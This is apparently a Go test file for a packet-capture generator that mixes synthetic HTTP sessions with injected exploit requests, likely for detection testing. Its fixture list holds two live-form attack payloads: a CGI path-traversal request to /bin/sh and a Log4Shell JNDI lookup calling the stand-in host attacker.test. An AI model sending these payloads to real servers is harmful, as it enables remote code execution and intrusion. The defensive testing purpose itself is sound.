package gen

import (
	"bufio"
	"bytes"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/google/gopacket/layers"

	"github.com/patchgate/patchgate/dataplane"
)

var testExploits = [][]byte{
	[]byte("GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: x\r\n\r\n"),
	[]byte("GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://attacker.test/a}\r\n\r\n"),
}

func testMix(t *testing.T, seed uint64) (*Capture, []Placement, MixOptions) {
	t.Helper()
	o := MixOptions{Seed: seed, Sessions: 24, Concurrency: 6, MaxRequests: 5, MaxBody: 3000,
		LargeEvery: 4, LargeSize: 40000, IPv6Every: 3, Exploits: testExploits}
	c, p, err := Mix(o)
	if err != nil {
		t.Fatal(err)
	}
	return c, p, o
}

func TestMixIsValidHTTPOverValidTCP(t *testing.T) {
	c, places, o := testMix(t, 42)
	flows := map[int][]Frame{}
	for i, f := range c.Frames {
		flows[f.Meta.Flow] = append(flows[f.Meta.Flow], f)
		if i > 0 && !f.CI.Timestamp.After(c.Frames[i-1].CI.Timestamp) {
			t.Fatal("timestamps do not increase")
		}
	}
	if len(flows) != o.Sessions {
		t.Fatalf("%d flows, want %d", len(flows), o.Sessions)
	}
	exploitFlows := map[int]bool{}
	for _, p := range places {
		exploitFlows[p.Flow] = true
	}
	v6 := 0
	for id, frames := range flows {
		segs := decodeTCP(t, c.LinkType, frames, false)
		if segs[0].flags != SYN || segs[len(segs)-1].flags != ACK {
			t.Fatalf("flow %d does not open and close", id)
		}
		if segs[0].src.Is6() {
			v6++
		}
		st := streams(t, segs, segs[0].seq, segs[1].seq)
		if exploitFlows[id] {
			continue
		}
		nreq := 0
		reqs, resps := bufio.NewReader(bytes.NewReader(st[0])), bufio.NewReader(bytes.NewReader(st[1]))
		for {
			req, err := http.ReadRequest(reqs)
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("flow %d request %d: %v", id, nreq, err)
			}
			if _, err := io.Copy(io.Discard, req.Body); err != nil {
				t.Fatalf("flow %d request body: %v", id, err)
			}
			resp, err := http.ReadResponse(resps, req)
			if err != nil {
				t.Fatalf("flow %d response %d: %v", id, nreq, err)
			}
			if _, err := io.Copy(io.Discard, resp.Body); err != nil {
				t.Fatalf("flow %d response body: %v", id, err)
			}
			nreq++
		}
		if resps.Buffered() != 0 || nreq < 1 || nreq > o.MaxRequests {
			t.Fatalf("flow %d: %d requests, %d response bytes left", id, nreq, resps.Buffered())
		}
	}
	if v6 != o.Sessions/o.IPv6Every {
		t.Fatalf("%d IPv6 flows, want %d", v6, o.Sessions/o.IPv6Every)
	}
}

func TestMixInterleavesWithinConcurrency(t *testing.T) {
	c, _, o := testMix(t, 7)
	first, last := map[int]int{}, map[int]int{}
	for i, f := range c.Frames {
		if _, ok := first[f.Meta.Flow]; !ok {
			first[f.Meta.Flow] = i
		}
		last[f.Meta.Flow] = i
	}
	maxOpen := 0
	for i := range c.Frames {
		open := 0
		for f := range first {
			if first[f] <= i && i <= last[f] {
				open++
			}
		}
		maxOpen = max(maxOpen, open)
	}
	if maxOpen < 2 || maxOpen > o.Concurrency {
		t.Fatalf("at most %d flows open at once, want 2..%d", maxOpen, o.Concurrency)
	}
}

func TestMixPlacesExploitsWhereTheManifestSays(t *testing.T) {
	c, places, _ := testMix(t, 99)
	if len(places) != len(testExploits) || places[0].Flow == places[1].Flow {
		t.Fatalf("placements %+v", places)
	}
	for _, p := range places {
		// The request's bytes are exactly the frames the manifest names.
		var before, upTo []Frame
		for i, f := range c.Frames {
			if f.Meta.Flow != p.Flow {
				continue
			}
			if i < p.FirstFrame {
				before = append(before, f)
			}
			if i <= p.LastFrame {
				upTo = append(upTo, f)
			}
		}
		m := c.Frames[p.LastFrame].Meta
		if !m.Last || m.Msg != p.Msg || m.Dir != dataplane.ToServer || c.Frames[p.FirstFrame].Meta.Msg != p.Msg {
			t.Fatalf("manifest frames %d..%d do not bound message %d: %+v", p.FirstFrame, p.LastFrame, p.Msg, m)
		}
		all := decodeTCP(t, c.LinkType, upTo, false)
		isn := [2]uint32{all[0].seq, all[1].seq}
		a := streams(t, decodeTCP(t, c.LinkType, before, false), isn[0], isn[1])[0]
		b := streams(t, all, isn[0], isn[1])[0]
		if got := b[len(a):]; !bytes.Equal(got, testExploits[p.Exploit]) {
			t.Fatalf("message %d of flow %d is %q", p.Msg, p.Flow, got)
		}
		if all[0].src != p.Client.Addr || all[0].dst != p.Server.Addr {
			t.Fatalf("manifest 5-tuple %v -> %v, capture %v -> %v", p.Client, p.Server, all[0].src, all[0].dst)
		}
	}
}

func TestMixIsDeterministic(t *testing.T) {
	a, pa, _ := testMix(t, 5)
	b, pb, _ := testMix(t, 5)
	c, _, _ := testMix(t, 6)
	if len(a.Frames) != len(b.Frames) || len(pa) != len(pb) {
		t.Fatal("same seed, different frame counts")
	}
	for i := range a.Frames {
		if !bytes.Equal(a.Frames[i].Data, b.Frames[i].Data) {
			t.Fatalf("same seed, frame %d differs", i)
		}
	}
	for i := range pa {
		if pa[i] != pb[i] {
			t.Fatalf("same seed, placement %d differs", i)
		}
	}
	var wa, wc bytes.Buffer
	if err := a.WritePcap(&wa); err != nil {
		t.Fatal(err)
	}
	if err := c.WritePcap(&wc); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(wa.Bytes(), wc.Bytes()) {
		t.Fatal("different seeds, identical captures")
	}
}

func TestMixOptionsAreValidated(t *testing.T) {
	for _, c := range []struct {
		o    MixOptions
		want string
	}{
		{MixOptions{Sessions: MaxMixSessions + 1}, "Sessions"},
		{MixOptions{MinRequests: 5, MaxRequests: 2}, "requests"},
		{MixOptions{MaxBody: MaxMixBody + 1}, "MaxBody"},
		{MixOptions{Sessions: 1, Exploits: testExploits}, "exploits"},
		{MixOptions{LinkType: layers.LinkTypeNull + 200}, "LinkType"},
	} {
		if _, _, err := Mix(c.o); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%+v: error %v, want mention of %s", c.o, err, c.want)
		}
	}
}
